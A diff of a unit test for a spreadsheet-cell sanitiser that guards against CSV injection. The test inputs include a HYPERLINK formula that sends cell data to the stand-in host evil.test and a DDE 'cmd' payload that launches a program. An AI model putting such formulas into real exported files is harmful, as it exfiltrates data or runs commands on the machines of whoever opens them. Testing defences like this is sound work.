@@ -5,7 +5,7 @@ import { neutraliseCell, neutraliseRow } from '../../src/shared/spreadsheet-cell
 
 describe('spreadsheet cells leaving the system (OWASP CSV injection)', () => {
   it('prefixes an apostrophe to text starting with = + - @, a tab or a carriage return', () => {
-    for (const v of ['=HYPERLINK("http://evil.test?"&A1,"x")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1']) {
+    for (const v of ['=HYPERLINK("http://evil.test?"&A1,"x")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1']) {
       expect(neutraliseCell(v)).toBe(`'${v}`);
     }
   });
